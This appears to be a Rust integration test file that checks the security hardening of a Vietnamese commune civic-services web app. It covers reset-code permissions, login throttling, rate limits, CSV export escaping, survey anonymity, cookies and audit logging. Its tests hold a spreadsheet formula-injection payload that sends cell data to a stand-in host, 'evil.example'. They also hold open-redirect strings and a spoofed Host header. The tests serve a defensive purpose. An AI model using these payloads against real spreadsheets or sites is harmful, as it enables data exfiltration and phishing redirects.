//! What an attacker or a failing database tries (issue: hardening): reset
//! codes only from above, throttles that hold for requests sent at the same
//! moment, limits per address, exports Excel does not run, anonymous answers,
//! the public https address, errors that never pass for "nothing here", and
//! audit lines that go with their change or not at all.

use app::accounts::model::Role;
use futures_util::future::join_all;
use serde_json::Value;

use crate::support::{DEMO_COMMUNE, PASSWORD, TestApp, call, get_json};

const RESIDENT: &str = "0971000006";

/// Asks for a reset code for `phone` as the holder of `token`: the status.
async fn issue(app: &TestApp, token: &str, phone: &str) -> u16 {
    app.post("/api/staff/reset-code", &[("phone", phone)], Some(token))
        .await
        .status()
        .as_u16()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reset_codes_come_only_from_above() {
    let app = TestApp::spawn().await;
    let staff = app
        .person_with_role("0971000001", Role::CommuneStaff { commune: 12364 })
        .await;
    let admin = app
        .person_with_role("0971000002", Role::CommuneAdmin { commune: 12364 })
        .await;
    let officer = app
        .person_with_role("0971000003", Role::ProvinceOfficer { province: 33 })
        .await;
    let other_officer = app
        .person_with_role("0971000004", Role::ProvinceOfficer { province: 1 })
        .await;
    let system = app.person_with_role("0971000005", Role::SystemAdmin).await;
    app.sign_up(RESIDENT, "Người Dân").await;
    app.person_with_role("0971000007", Role::CommuneStaff { commune: 12364 })
        .await;

    let cases = [
        // Sideways and up: refused, and no code is made.
        (&staff, "0971000002", 403, "staff → their admin"),
        (&staff, "0971000007", 403, "staff → a colleague"),
        (&admin, "0971000007", 403, "admin → their staff"),
        (&staff, "0971000003", 403, "staff → the officer"),
        (
            &staff,
            "0971000005",
            403,
            "staff → the system administrator",
        ),
        (&admin, "0971000003", 403, "admin → the officer"),
        (&officer, "0971000004", 403, "officer → another officer"),
        (&officer, "0971000003", 403, "officer → themselves"),
        (&officer, RESIDENT, 403, "officer → a resident"),
        (
            &other_officer,
            "0971000002",
            403,
            "officer of another province",
        ),
        (
            &system,
            "0971000005",
            403,
            "the system administrator → themselves",
        ),
        // Down: allowed.
        (&staff, RESIDENT, 200, "staff → a resident of the commune"),
        (&admin, RESIDENT, 200, "admin → a resident of the commune"),
        (&officer, "0971000002", 200, "officer → the commune's admin"),
        (&officer, "0971000001", 200, "officer → the commune's staff"),
        (
            &system,
            "0971000003",
            200,
            "system administrator → an officer",
        ),
    ];
    for (token, phone, want, case) in cases {
        let last = "select coalesce(max(id), 0) from reset_codes";
        let before = app.count(last).await;
        assert_eq!(issue(&app, token, phone).await, want, "{case}");
        let made = app.count(last).await > before;
        assert_eq!(made, want == 200, "{case}");
    }
    // Every code is in the audit log, an officer's in the province's.
    assert_eq!(
        app.count("select count(*) from audit_log where action = 'issue_reset_code'")
            .await,
        5
    );
    assert_eq!(
        app.count(
            "select count(*) from audit_log where action = 'issue_reset_code' and province_code = 33"
        )
        .await,
        1
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reset_code_is_shown_once_and_never_in_an_address() {
    let app = TestApp::spawn().await;
    let staff = app
        .person_with_role("0971000011", Role::CommuneStaff { commune: 12364 })
        .await;
    app.sign_up("0971000012", "Người Quên").await;
    // The browser's form post.
    let response = app
        .client
        .post(app.url("/api/staff/reset-code"))
        .header("cookie", format!("xaso_session={staff}"))
        .form(&[("phone", "0971000012")])
        .send()
        .await
        .unwrap();
    assert!(response.status().is_redirection());
    let location = response.headers()["location"].to_str().unwrap().to_owned();
    assert_eq!(location, "/staff/reset?done=code-issued");
    let once = response
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .find(|c| c.starts_with("xaso_once="))
        .expect("the code is handed to the page in a cookie");
    assert!(
        once.contains("Path=/staff/reset") && once.contains("HttpOnly"),
        "{once}"
    );
    let value = once.split(';').next().unwrap().to_owned();
    let code = app.sms.sent()[0].1.clone();
    let code: String = code.chars().filter(char::is_ascii_digit).take(8).collect();
    assert_eq!(code.len(), 8);
    // The page shows it, once.
    let page = |cookies: String| {
        let (app, location) = (&app, &location);
        async move {
            let response = app
                .client
                .get(app.url(location))
                .header("cookie", cookies)
                .send()
                .await
                .unwrap();
            let cleared = response
                .headers()
                .get_all("set-cookie")
                .iter()
                .any(|v| v.to_str().unwrap().starts_with("xaso_once=;"));
            (response.text().await.unwrap(), cleared)
        }
    };
    let (shown, cleared) = page(format!("xaso_session={staff}; {value}")).await;
    assert!(shown.contains(&code), "the code is on the page");
    assert!(shown.contains("0971 000 012"), "with the number it is for");
    assert!(cleared, "and the cookie that carried it is cleared");
    let (again, _) = page(format!("xaso_session={staff}")).await;
    assert!(!again.contains(&code));
    // Scripts get it in the answer's body.
    let (status, body) = call(
        &app,
        "/api/staff/reset-code",
        &[("phone", "0971000012")],
        &staff,
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(body.as_str().unwrap().len(), 8);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_guesses_are_counted_before_they_are_checked() {
    let app = TestApp::spawn().await;
    app.sign_up("0972000001", "An").await;
    let answers = join_all((0..20).map(|_| app.sign_in("0972000001", "doan-sai-mat-khau"))).await;
    let checked = answers.iter().filter(|a| **a == Err(401)).count();
    let refused = answers.iter().filter(|a| **a == Err(429)).count();
    assert!(checked <= 5, "{answers:?}");
    assert_eq!(checked + refused, 20, "{answers:?}");
    // Requests refused at the same moment may have held back others (never
    // the reverse): the number takes its remaining wrong guesses, one by one,
    // and then is locked, even with the right password.
    for _ in checked..5 {
        assert_eq!(
            app.sign_in("0972000001", "doan-sai-mat-khau").await,
            Err(401)
        );
    }
    assert_eq!(app.sign_in("0972000001", PASSWORD).await, Err(429));

    // The same throttle guards a password asked again.
    let bình = app.sign_up("0972000002", "Bình").await;
    let answers = join_all((0..12).map(|_| {
        call(
            &app,
            "/api/account/password",
            &[
                ("current", "doan-sai-mat-khau"),
                ("password", "mat-khau-moi-2026"),
            ],
            &bình,
        )
    }))
    .await;
    let wrong = answers.iter().filter(|(s, _)| *s == 400).count();
    let refused = answers.iter().filter(|(s, _)| *s == 429).count();
    assert!(wrong <= 5 && wrong + refused == 12, "{answers:?}");
    for _ in wrong..5 {
        let (status, _) = call(
            &app,
            "/api/account/password",
            &[
                ("current", "doan-sai-mat-khau"),
                ("password", "mat-khau-moi-2026"),
            ],
            &bình,
        )
        .await;
        assert_eq!(status, 400);
    }
    // Deleting the account asks for it too: locked as well.
    let (status, _) = call(
        &app,
        "/api/account/delete",
        &[("password", PASSWORD), ("confirm", "yes")],
        &bình,
    )
    .await;
    assert_eq!(status, 429);
    assert_eq!(
        app.count("select count(*) from users where phone = '+84972000002'")
            .await,
        1
    );

    // And a reset code.
    app.sign_up("0972000003", "Chi").await;
    let guesses = join_all((0..10).map(|n| {
        let app = &app;
        async move {
            let code = format!("{n:08}");
            app.post(
                "/api/account/reset",
                &[
                    ("phone", "0972000003"),
                    ("code", &code),
                    ("password", "mat-khau-moi-2026"),
                ],
                None,
            )
            .await
        }
    }))
    .await;
    let statuses: Vec<u16> = guesses.iter().map(|r| r.status().as_u16()).collect();
    assert!(
        statuses.iter().filter(|s| **s == 400).count() <= 5,
        "{statuses:?}"
    );
    assert!(statuses.contains(&429), "{statuses:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sign_up_is_limited_per_address_and_the_right_end_of_forwarded_for_counts() {
    let app = TestApp::spawn().await;
    let sign_up = |n: usize, forwarded: String| {
        let app = &app;
        async move {
            app.client
                .post(app.url("/api/account/sign-up"))
                .header("accept", "application/json")
                .header("x-forwarded-for", forwarded)
                .form(&[
                    ("phone", format!("09730{n:05}")),
                    ("name", "Người Mới".to_owned()),
                    ("password", PASSWORD.to_owned()),
                    ("commune", DEMO_COMMUNE.to_owned()),
                ])
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    // A client that writes a new address at the left of the header each time
    // is still the address the proxy added at the right.
    let max = app::throttle::SIGN_UP_ADDRESS.max as usize;
    for n in 0..max {
        let forwarded = format!("198.51.100.{n}, 203.0.113.9");
        assert_eq!(sign_up(n, forwarded).await, 200, "sign-up {n}");
    }
    assert_eq!(sign_up(max, "198.51.100.77, 203.0.113.9".into()).await, 429);
    assert_eq!(
        app.count("select count(*) from users where phone like '+849730%'")
            .await,
        max as i64
    );
    // Another address is not held back.
    assert_eq!(sign_up(max + 1, "203.0.113.10".into()).await, 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reports_are_limited_per_account() {
    let app = TestApp::spawn().await;
    let resident = app.sign_up("0974000001", "Hay Phản Ánh").await;
    let category = app::reports::db::categories(&app.db, 12364).await.unwrap()[0]
        .id
        .to_string();
    let file = |n: usize| {
        let (app, resident, category) = (&app, &resident, &category);
        async move {
            call(
                app,
                "/api/reports/file",
                &[
                    ("commune", DEMO_COMMUNE),
                    ("report[category]", category),
                    (
                        "report[description]",
                        &format!("Ổ gà số {n} trên đường liên thôn"),
                    ),
                ],
                resident,
            )
            .await
            .0
        }
    };
    for n in 0..10 {
        assert_eq!(file(n).await, 200, "report {n}");
    }
    assert_eq!(file(10).await, 429);
    assert_eq!(app.count("select count(*) from reports").await, 10);
    // Sent all at once, no more get through.
    let resident = app.sign_up("0974000002", "Gửi Dồn Dập").await;
    let statuses = join_all((0..15).map(|n| {
        let (app, resident, category) = (&app, &resident, &category);
        async move {
            let text = format!("Rác thải số {n} đổ trộm bên đường");
            call(
                app,
                "/api/reports/file",
                &[
                    ("commune", DEMO_COMMUNE),
                    ("report[category]", category),
                    ("report[description]", &text),
                ],
                resident,
            )
            .await
            .0
        }
    }))
    .await;
    let filed = statuses.iter().filter(|s| **s == 200).count();
    assert!(filed <= 10, "{statuses:?}");
    assert_eq!(filed + statuses.iter().filter(|s| **s == 429).count(), 15);
    assert_eq!(
        app.count("select count(*) from reports").await,
        10 + filed as i64
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_hold_no_formula_excel_would_run() {
    let app = TestApp::spawn().await;
    let admin = app
        .person_with_role("0975000001", Role::CommuneAdmin { commune: 12364 })
        .await;
    let resident = app.sign_up("0975000002", "Kẻ Xấu").await;
    let (status, id) = call(
        &app,
        "/api/staff/surveys/create",
        &[("template", "new-rural")],
        &admin,
    )
    .await;
    assert_eq!(status, 200, "{id:?}");
    let id = id.as_i64().unwrap().to_string();
    let (status, _) = call(
        &app,
        "/api/staff/surveys/publish",
        &[("survey", &id)],
        &admin,
    )
    .await;
    assert_eq!(status, 200);
    let questions = app::surveys::db::questions(&app.db, id.parse().unwrap())
        .await
        .unwrap();
    let text = questions
        .iter()
        .find(|q| matches!(q.kind, app::surveys::model::QuestionKind::LongText))
        .unwrap();
    let formula = r#"=HYPERLINK("https://evil.example/?"&B2,"Xem")"#;
    let field = format!("a[q{}]", text.id);
    let (status, body) = call(
        &app,
        "/api/surveys/answer",
        &[("survey", &id), ("intent", "save"), (&field, formula)],
        &resident,
    )
    .await;
    assert_eq!(status, 200, "{body:?}");
    // Sent, with every required question answered.
    let mut form: Vec<(String, String)> = vec![
        ("survey".into(), id.clone()),
        ("intent".into(), "send".into()),
        (field.clone(), formula.into()),
    ];
    for q in &questions {
        for row in 0..q.options.len().max(1) {
            if matches!(q.kind, app::surveys::model::QuestionKind::Matrix) {
                form.push((format!("a[q{}_{row}]", q.id), "4".into()));
            }
        }
    }
    let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let (status, body) = call(&app, "/api/surveys/answer", &form, &resident).await;
    assert_eq!(status, 200, "{body:?}");
    let csv = app
        .client
        .get(app.url(&format!("/exports/surveys/{id}/responses.csv")))
        .header("cookie", format!("xaso_session={admin}"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let mut reader =
        csv::ReaderBuilder::new().from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(cells.iter().any(|c| c == &format!("'{formula}")), "{csv}");
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '@', '\t', '\r']),
            "{cell:?} in {csv}"
        );
        assert!(
            !cell.starts_with('-') || cell.parse::<f64>().is_ok(),
            "{cell:?}"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn anonymous_answers_cannot_be_traced_with_the_database() {
    let app = TestApp::spawn().await;
    let admin = app
        .person_with_role("0976000001", Role::CommuneAdmin { commune: 12364 })
        .await;
    let resident = app.sign_up("0976000002", "Người Kín").await;
    let (_, id) = call(
        &app,
        "/api/staff/surveys/create",
        &[("template", "new-rural")],
        &admin,
    )
    .await;
    let id = id.as_i64().unwrap();
    assert_eq!(
        call(
            &app,
            "/api/staff/surveys/publish",
            &[("survey", &id.to_string())],
            &admin
        )
        .await
        .0,
        200
    );
    let (status, _) = call(
        &app,
        "/api/surveys/answer",
        &[("survey", &id.to_string()), ("intent", "save")],
        &resident,
    )
    .await;
    assert_eq!(status, 200);
    let (salt, anonymous): (String, i64) =
        sqlx::query_as("select salt, anonymous from surveys where id = $1")
            .bind(id)
            .fetch_one(&app.db)
            .await
            .unwrap();
    assert_eq!(anonymous, 1, "the template is anonymous");
    let user: i64 = sqlx::query_scalar("select id from users where phone = '+84976000002'")
        .fetch_one(&app.db)
        .await
        .unwrap();
    let (respondent, user_id, created, updated): (String, Option<i64>, i64, i64) = sqlx::query_as(
        "select respondent, user_id, created_at, updated_at from survey_responses where survey_id = $1",
    )
    .bind(id)
    .fetch_one(&app.db)
    .await
    .unwrap();
    assert_eq!(user_id, None);
    // What the database holds is not what it alone could recompute.
    assert_ne!(
        respondent,
        app::accounts::session::token_hash(&format!("{salt}:{user}"))
    );
    assert!(respondent.starts_with('h'));
    // Only the day (Vietnam time), never the moment.
    for at in [created, updated] {
        assert_eq!(at, app::surveys::anonymity::day_of(at), "{at}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_public_https_address_makes_cookies_secure_and_links_its_own() {
    let app = TestApp::spawn_at("https://xaso.example.vn").await;
    app.sign_up("0977000001", "An Toàn").await;
    let response = app
        .post(
            "/api/account/sign-in",
            &[("phone", "0977000001"), ("password", PASSWORD)],
            None,
        )
        .await;
    assert_eq!(response.status(), 200);
    let cookie = response
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|v| v.to_str().unwrap().to_owned())
        .find(|c| c.contains("xaso_session="))
        .unwrap();
    assert!(cookie.starts_with("__Host-xaso_session="), "{cookie}");
    assert!(
        cookie.contains("; Secure") && cookie.contains("Path=/"),
        "{cookie}"
    );
    let token = cookie
        .trim_start_matches("__Host-xaso_session=")
        .split(';')
        .next()
        .unwrap()
        .to_owned();
    // The prefixed cookie is the session; the plain name is not read.
    let profile = |name: &'static str| {
        let (app, token) = (&app, &token);
        async move {
            app.client
                .get(app.url("/api/account/profile"))
                .header("accept", "application/json")
                .header("cookie", format!("{name}={token}"))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16()
        }
    };
    assert_eq!(profile("__Host-xaso_session").await, 200);
    assert_eq!(profile("xaso_session").await, 401);
    let home = app.get("/").await;
    assert_eq!(
        home.headers()["strict-transport-security"],
        "max-age=31536000; includeSubDomains"
    );
    // Open311 links use the public address, whatever Host a client claims.
    let discovery: Value = app
        .client
        .get(app.url("/open311/v2/discovery.json"))
        .header("host", "evil.example")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let url = discovery["endpoints"][0]["url"].as_str().unwrap();
    assert!(url.starts_with("https://xaso.example.vn/"), "{url}");
    // Without a public address: no HSTS.
    let local = TestApp::spawn().await;
    assert!(
        local
            .get("/")
            .await
            .headers()
            .get("strict-transport-security")
            .is_none()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_offline_page_links_only_to_this_site() {
    let app = TestApp::spawn().await;
    for from in [
        "/%5Cevil.example",
        "//evil.example",
        "/%09/evil.example",
        "https://evil.example",
    ] {
        let (status, page) = app.page(&format!("/offline?from={from}"), None).await;
        assert_eq!(status, 200);
        assert!(!page.contains("evil.example\""), "{from}: {page}");
        assert!(page.contains(r#"href="/""#), "{from}");
    }
    let (_, page) = app
        .page("/offline?from=/directory%3Farea%3Dhealth", None)
        .await;
    assert!(page.contains(r#"href="/directory?area=health""#));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn staff_answers_are_never_stored_and_residents_are_private() {
    let app = TestApp::spawn().await;
    let staff = app
        .person_with_role("0978000001", Role::CommuneStaff { commune: 12364 })
        .await;
    let resident = app.sign_up("0978000002", "Dân").await;
    let control = |path: &'static str, token: Option<String>| {
        let app = &app;
        async move {
            let mut request = app.client.get(app.url(path));
            if let Some(token) = token {
                request = request.header("cookie", format!("xaso_session={token}"));
            }
            let response = request.send().await.unwrap();
            response
                .headers()
                .get("cache-control")
                .map(|v| v.to_str().unwrap().to_owned())
                .unwrap_or_default()
        }
    };
    for path in [
        "/staff/dashboard",
        "/api/dashboard/commune?period=month",
        "/directory",
        "/surveys",
        "/exports/dashboard/commune.csv",
    ] {
        assert_eq!(
            control(path, Some(staff.clone())).await,
            "private, no-store",
            "{path}"
        );
    }
    for path in ["/reports?mine=1", "/account", "/directory"] {
        let value = control(path, Some(resident.clone())).await;
        assert!(value.starts_with("private"), "{path}: {value}");
    }
    assert!(!control("/directory", None).await.contains("private"));
    // Scripts and styles are everybody's: the phone keeps them for offline use.
    assert!(
        !control("/outbox.js", Some(resident.clone()))
            .await
            .contains("no-cache")
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_error_is_never_shown_as_nothing_here() {
    let app = TestApp::spawn().await;
    let resident = app.sign_up("0979000001", "Kiên Nhẫn").await;
    app.db.close().await;
    // The commune chosen in a cookie cannot be read: not "choose your commune".
    let response = app
        .get_with_cookie("/directory?area=health", &format!("commune={DEMO_COMMUNE}"))
        .await;
    assert_eq!(response.status(), 503);
    assert_eq!(response.headers()["cache-control"], "no-store");
    let page = response.text().await.unwrap();
    assert!(page.contains("thử lại"), "{page}");
    // A signed-in person is not taken for an anonymous one.
    let (status, _) = app.page("/account", Some(&resident)).await;
    assert_eq!(status, 503);
    // Nor a commune's page, a server function, or a JSON API.
    let (status, _) = app.page(&format!("/c/{DEMO_COMMUNE}"), None).await;
    assert_eq!(status, 503);
    let (status, body) = get_json(
        &app,
        "/api/hsds/services",
        &[("commune", DEMO_COMMUNE)],
        None,
    )
    .await;
    assert_eq!(status, 503, "{body:?}");
    let (status, body) = get_json(
        &app,
        "/api/reports/list",
        &[("commune", DEMO_COMMUNE)],
        None,
    )
    .await;
    assert_eq!(status, 503, "{body:?}");
    assert_eq!(app.get("/healthz").await.status(), 503);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_requests_get_400_and_change_nothing() {
    let app = TestApp::spawn().await;
    let resident = app.sign_up("0979000011", "Gửi Thiếu").await;
    // A required field missing.
    let response = app
        .post("/api/account/sign-in", &[("phone", "0979000011")], None)
        .await;
    assert_eq!(response.status(), 400);
    let body: Value = response.json().await.unwrap();
    assert_eq!(body["Invalid"], "RequestMalformed");
    // A field of the wrong shape (a map expected, text sent).
    let (status, body) = call(
        &app,
        "/api/staff/settings/working-time",
        &[("working", "x")],
        &resident,
    )
    .await;
    assert!(status == 400 || status == 403, "{status} {body:?}");
    let (status, body) = get_json(&app, "/api/surveys/results", &[], None).await;
    assert_eq!(status, 400, "{body:?}");
    assert_eq!(body["Invalid"], "RequestMalformed");
    let (status, _) = call(
        &app,
        "/api/reports/file",
        &[("commune", DEMO_COMMUNE)],
        &resident,
    )
    .await;
    assert_eq!(status, 400);
    assert_eq!(app.count("select count(*) from reports").await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_change_stays_without_its_audit_line() {
    let app = TestApp::spawn().await;
    let admin = app
        .person_with_role("0979000021", Role::CommuneAdmin { commune: 12364 })
        .await;
    let officer = app
        .person_with_role("0979000022", Role::ProvinceOfficer { province: 33 })
        .await;
    let future_staff = "0979000023";
    app.sign_up(future_staff, "Sắp Làm Cán Bộ").await;
    // The audit log cannot be written.
    sqlx::query("alter table audit_log rename to audit_log_away")
        .execute(&app.db)
        .await
        .unwrap();
    let count = |sql: &'static str| app.count(sql);
    let appointments = count("select count(*) from appointments").await;
    let villages = count("select count(*) from villages").await;
    let codes = count("select count(*) from reset_codes").await;
    let keys = count("select count(*) from open311_keys").await;
    let enabled = count("select count(*) from communes where enabled = 1").await;
    for (path, form, token) in [
        (
            "/api/staff/people/appoint",
            vec![("commune", DEMO_COMMUNE), ("phone", future_staff)],
            &admin,
        ),
        (
            "/api/staff/villages/add",
            vec![
                ("commune", DEMO_COMMUNE),
                ("name", "Thôn Mới"),
                ("kind", "thon"),
            ],
            &admin,
        ),
        (
            "/api/staff/reset-code",
            vec![("phone", "0979000021")],
            &officer,
        ),
        (
            "/api/staff/settings/key",
            vec![("name", "Tổng đài 1022")],
            &admin,
        ),
        (
            "/api/staff/province/commune",
            vec![("commune", "12361"), ("enabled", "1")],
            &officer,
        ),
    ] {
        let (status, _) = call(&app, path, &form, token).await;
        assert!(status >= 500, "{path}: {status}");
    }
    assert_eq!(
        count("select count(*) from appointments").await,
        appointments
    );
    assert_eq!(count("select count(*) from villages").await, villages);
    assert_eq!(count("select count(*) from reset_codes").await, codes);
    assert_eq!(count("select count(*) from open311_keys").await, keys);
    assert_eq!(
        count("select count(*) from communes where enabled = 1").await,
        enabled
    );
    assert!(app.sms.sent().is_empty(), "no code was sent");
}
